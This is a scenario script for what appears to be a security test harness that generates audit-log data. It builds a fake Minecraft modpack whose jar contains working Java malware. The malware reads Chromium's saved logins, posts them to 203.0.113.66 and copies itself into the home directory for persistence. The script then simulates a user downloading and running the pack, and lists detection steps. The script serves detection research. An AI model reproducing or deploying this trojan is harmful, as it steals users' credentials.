title="A modpack out of a chat: java starts its jar"
what="intern saves bettercraft-pack.zip from the chat with Chromium, unpacks it with 7z, reads the text and starts the jar with java. It reads the browser's stored logins and posts them to 203.0.113.66, then copies itself to ~/.local/share. Ordinary work of clerk and dev goes on. The site records commands, connections and writes at home."
host=ws3.example.org user=intern daemons="cron sshd" audit_rules=audit-site.rules audit_format=RAW
setup() {
  mkdir -p "$base/out/j/pack/mods" "$base/out/www/f"
  cat > "$base/out/j/Start.java" <<'J'
import java.io.*; import java.net.*; import java.nio.file.*;
public class Start {
  public static void main(String[] a) throws Exception {
    String h = System.getProperty("user.home");
    byte[] b = "none".getBytes();
    try { b = Files.readAllBytes(Path.of(h, ".config/chromium/Default/Login Data")); } catch (IOException e) {}
    HttpURLConnection c = (HttpURLConnection) new URL("http://203.0.113.66/j").openConnection();
    c.setRequestMethod("POST"); c.setDoOutput(true); c.getOutputStream().write(b); c.getResponseCode();
    Path d = Path.of(h, ".local/share/bc"); Files.createDirectories(d);
    Files.copy(Path.of(Start.class.getProtectionDomain().getCodeSource().getLocation().toURI()), d.resolve("bc.jar"), StandardCopyOption.REPLACE_EXISTING);
    System.out.println("no game found");
  }
}
J
  (cd "$base/out/j" && javac -d c Start.java && printf 'Main-Class: Start\n' > m && jar cfm pack/BetterCraft-1.8.jar m -C c .) || return 1
  echo 'java -jar BetterCraft-1.8.jar, then choose your folder' > "$base/out/j/pack/README.txt"
  (cd "$base/out/j" && zip -qr "$base/out/www/f/bettercraft-pack.zip" pack)
}
act() {
  small_talk 2
  display_up
  chromium_as intern https://chat.example.com/f/bettercraft-pack.zip
  wait_file /home/intern/Downloads/bettercraft-pack.zip 40; sleep 3; desktop_close
  ssh_run dev 'ls; java -version'
  console_as intern <<'L'
cd Downloads
7z x -y bettercraft-pack.zip
cd pack; cat README.txt
java -jar BetterCraft-1.8.jar
%sleep 3
ls ~/.local/share
L
  ssh_run clerk 'ls Maildir/new | wc -l'
  small_talk 1
}
truth() {
  file_step save 'chromium.* open.*/home/intern/Downloads/' 'saved'
  exec_step unpack '7z.* x -y bettercraft-pack.zip' 'unpacked'
  exec_step execute 'java.* -jar BetterCraft-1.8.jar' 'run'
  net_step send 'java.* .*203.0.113.66.*:80' 'posts'
}
